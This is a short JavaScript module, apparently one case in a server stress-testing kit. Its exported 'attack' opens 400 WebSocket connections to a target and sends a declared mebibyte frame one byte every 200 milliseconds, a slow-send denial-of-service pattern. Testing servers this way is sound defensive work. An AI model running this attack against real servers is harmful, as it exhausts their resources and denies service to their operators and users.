// A frame that does not end, before hello and after it.
import { crowd, frame, pause, push, webSocket } from '../kit.mjs';

export const about = '400 WebSockets send a message of a mebibyte, a byte now and then';

export const attack = (target) =>
  crowd(target, 400, async (life) => {
    const socket = await webSocket(life, { hello: life.id % 2 === 0, watch: true });
    const bytes = frame(Buffer.alloc(1000, 32), { opcode: 1, size: life.id % 2 === 0 ? 1_000_000 : 16000 });
    for (let at = 0; at < bytes.length && !socket.destroyed; at += 1) {
      await push(socket, bytes.subarray(at, at + 1));
      await pause(200);
    }
  });
